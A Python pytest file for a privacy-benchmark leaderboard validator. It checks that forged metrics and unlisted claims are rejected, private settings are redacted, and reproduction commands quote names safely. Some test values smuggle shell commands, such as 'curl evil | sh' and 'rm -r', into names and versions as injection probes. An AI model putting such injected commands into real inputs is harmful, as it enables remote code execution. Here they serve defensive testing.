"""What can be said of a run: in closed lists, so that no word of one's own makes a board."""

from __future__ import annotations

from typing import Any

import pytest

from harness_adapters.leaderboard.checked import Alike, CheckedRun, alike
from harness_adapters.leaderboard.claims import problems, published_generation
from harness_adapters.leaderboard.recipe import NOT_PUBLISHED, recipe_of
from harness_adapters.leaderboard.submission import Model, Run, board_of
from tests.harness_adapters.leaderboard.forging import CARES, Care, Content
from tests.harness_adapters.leaderboard.verifying.conftest import Forge, Made, failed


@pytest.mark.parametrize("care", CARES)
def test_a_figure_cannot_hide_behind_another_of_its_name(
    lexical: Made, forge: Forge, care: Care
) -> None:
    def hide(content: Content) -> None:
        true = content.run["metrics"]["leak_rate"]
        content.run["means"] = {
            "leak_rate": true["mean"],
            "leak_rate (lower)": true["lower"],
            "leak_rate (upper)": true["upper"],
            "leak_rate (stderr)": true["stderr"],
        }
        content.run["metrics"]["leak_rate"] = {"mean": 0, "stderr": 0, "lower": 0, "upper": 0}

    found = failed(forge(lexical, hide, care))

    # the thorough one makes all figures anew, and with them the true one
    assert found.get("metrics", "").startswith("agentic-replay: leak_rate is") or care == "thorough"
    assert (found == {}) == (care == "thorough")


CLAIMS: dict[str, tuple[dict[str, Any], str]] = {
    "a condition": ({"conditions": {"audited by": "somebody"}}, "is no condition of a run"),
    "a condition's value": ({"conditions": {"system message": "be good"}}, "is no condition"),
    "a line break": ({"conditions": {"--solver": "x\nrm -r #0123456789ab"}}, "is no condition"),
    "a setting that its mode ignores": ({"settings": {"turns": 20}}, "nothing that replay goes by"),
    "a setting of no form": ({"settings": {"turns": "many thanks"}}, "is no setting of a task"),
    "a word among the sampling": ({"generation": {"best": "yes"}}, "is no setting of sampling"),
    "a number that is none": ({"generation": {"temperature": "low"}}, "is no setting of sampling"),
    "an endpoint": ({"generation": {"-M azure_endpoint": "corp"}}, "is no setting of sampling"),
    "a harness": ({"harness_version": "99; curl x | sh"}, "is no version of inspect_ai"),
    "a package": ({"privacy_tasks": "best"}, "is no version of privacy-tasks"),
    "long ago": ({"began": "1970-01-01T00:00:00Z"}, "cannot have begun"),
    "after it was made": ({"began": "2031-01-01T00:00:00Z"}, "cannot have begun"),
}


@pytest.mark.parametrize("care", CARES)
@pytest.mark.parametrize("what", CLAIMS)
def test_what_nobody_wrote_is_named(lexical: Made, forge: Forge, what: str, care: Care) -> None:
    change, said = CLAIMS[what]

    def claim(content: Content) -> None:
        for name, value in change.items():
            kept = content.run[name]
            content.run[name] = {**kept, **value} if isinstance(value, dict) else value

    assert said in failed(forge(lexical, claim, care))["possible values"]


@pytest.mark.parametrize(
    "name", ["privacy_tasks/agentic_hard", "privacy_tasks/agentic_privacylens"]
)
def test_a_task_is_one_of_those_that_there_are(lexical: Made, forge: Forge, name: str) -> None:
    def rename(content: Content) -> None:
        content.run["task"] = name

    assert f"{name!r} is no task" in failed(forge(lexical, rename, "thorough"))["possible values"]


def test_the_models_that_judged_are_those_of_the_records(panel: Made, forge: Forge) -> None:
    def rename(content: Content) -> None:
        content.run["judge"]["models"][0] = "openai/gpt-4.1"

    found = failed(forge(panel, rename, "careful"))

    assert set(found) == {"judge identity"}
    assert "by its records it was openai/a-grader, openai/b-grader" in found["judge identity"]


def run_of(made: Made, **changes: Any) -> Run:
    submission = made.checked().submission
    assert submission is not None
    return submission.runs[0].model_copy(update=changes)


def test_boards_are_by_what_holds_and_not_by_how_it_was_said(
    lexical: Made, episodes: Made, sessions: Made
) -> None:
    replay, episode, session = (run_of(made) for made in (lexical, episodes, sessions))

    def told(run: Run, **settings: Any) -> Run:
        return run.model_copy(update={"settings": {**run.settings, **settings}})

    assert board_of(told(episode, turns=20)) == board_of(told(episode, turns=None))
    assert board_of(told(episode, turns=5)) != board_of(told(episode, turns=None))
    assert board_of(told(replay, turns=5)) == board_of(replay)
    assert board_of(told(session, memory="history")) == board_of(told(session, memory=None))
    assert board_of(told(session, memory="tool")) != board_of(told(session, memory=None))
    named = replay.model_copy(update={"task": "privacy_collapse_agentic"})
    variant = replay.model_copy(update={"task": "privacy_collapse_agentic_privacylens"})
    assert board_of(named) == board_of(variant) != board_of(replay)
    logprob = replay.model_copy(update={"task": "privacy_collapse_probing_logprob"})
    probing = replay.model_copy(update={"task": "privacy_collapse_probing"})
    assert board_of(logprob) != board_of(probing)


def test_what_may_be_of_the_submitter_is_named_and_not_told(lexical: Made) -> None:
    told = {
        "temperature": "0.7",
        "-M dtype": "bfloat16",
        "-M tensor_parallel_size": "2",
        "-M azure_endpoint": "https:acme-internal.example",
        "-M default_headers": "{'Authorization': 'Basic c2VjcmV0'}",
        "-M quantization": "/scratch/jane/q",
        "extra_body": "{'user': 'jane'}",
        "stop_seqs": "['\\n\\n']",
        "gen_kwargs": '{"temperature": 0.5, "until": ["/home/jane"], "user": "jane"}',
    }

    found = published_generation(told)

    assert found["temperature"] == "0.7"
    assert (found["-M dtype"], found["-M tensor_parallel_size"]) == ("bfloat16", "2")
    hidden = {name for name, value in found.items() if value == NOT_PUBLISHED}
    assert hidden == {
        "-M azure_endpoint", "-M default_headers", "-M quantization", "extra_body", "stop_seqs"
    }  # fmt: skip
    assert '"temperature": 0.5' in found["gen_kwargs"]
    assert "jane" not in str(found)
    assert list(problems(run_of(lexical, generation=found))) == []


MODEL = Model(
    name="acme/support", revision="v2", access="open-weights", tuning=None, run_as="hf/support"
)


def test_a_recipe_is_made_of_what_was_checked(lexical: Made) -> None:
    run = run_of(
        lexical,
        conditions={"system message": "#0123456789ab"},
        generation={"temperature": "0.7", "seed": "7", "-M azure_endpoint": NOT_PUBLISHED},
        epochs=3,
    )

    install, *rest = recipe_of(run, MODEL)

    assert (
        install
        == f"pip install privacy-tasks=={run.privacy_tasks} inspect-ai=={run.harness_version}"
    )
    assert [line for line in rest if line.startswith("#")] == [
        "# It was run with a system message that is not published (its hash: #0123456789ab).",
        "# It was run with -M azure_endpoint, whose value is not published.",
        "# The scenarios (core:file) are not released.",
    ]
    (command,) = (line for line in rest if line.startswith("inspect eval"))
    for part in ("--model hf/acme/support", "--temperature 0.7", "--seed 7", "--epochs 3",
                 "-T judge=lexical", "-T mode=replay"):  # fmt: skip
        assert part in command
    assert "azure_endpoint" not in command


def test_a_recipe_quotes_names_of_others(lexical: Made) -> None:
    model = MODEL.model_copy(update={"name": "x; curl evil | sh", "access": "api", "run_as": "m"})

    *_, command, _ = recipe_of(run_of(lexical), model)

    assert "--model 'x; curl evil | sh'" in command


def test_recipes_of_lm_eval_name_weights_by_their_revision(lexical: Made) -> None:
    run = run_of(
        lexical,
        harness="lm_eval",
        task="privacy_collapse_agentic",
        conditions={"chat template": "yes"},
        generation={"--model": "hf", "gen_kwargs": '{"do_sample": true, "temperature": 0.5}'},
    )

    *_, command, _ = recipe_of(run, MODEL)

    assert "--model hf --model_args pretrained=acme/support,revision=v2" in command
    assert "--apply_chat_template" in command
    assert "--gen_kwargs do_sample=True,temperature=0.5" in command
    assert '"judge": "lexical"' in command


def test_outputs_that_are_the_same_are_counted_where_both_have_one() -> None:
    def run(outputs: dict[str, str]) -> CheckedRun:
        return CheckedRun(None, {}, {}, (), 0, outputs)  # type: ignore[arg-type]

    one = run({f"s{n} 1": f"{n}" for n in range(30)})
    other = run({f"s{n} 1": f"{n}" if n < 20 else "x" for n in range(5, 40)})

    assert alike(one, other) == Alike(same=15, of=25)
    assert alike(one, other).striking
    assert not Alike(same=12, of=25).striking
    assert not Alike(same=19, of=19).striking
